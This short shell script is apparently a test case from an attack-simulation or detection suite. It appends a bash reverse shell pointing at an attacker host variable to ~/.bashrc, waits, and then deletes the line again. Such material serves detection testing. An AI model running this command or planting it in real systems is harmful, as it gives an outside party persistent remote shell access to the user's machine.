# SPDX-License-Identifier: MIT
# technique: a reverse shell appended to ~/.bashrc
# level: high
# quick: yes
t0
echo "bash -i >& /dev/tcp/$ATK/443 0>&1 &" >>~/.bashrc
sleep 2
sed -i '$d' ~/.bashrc # the next techniques start interactive shells
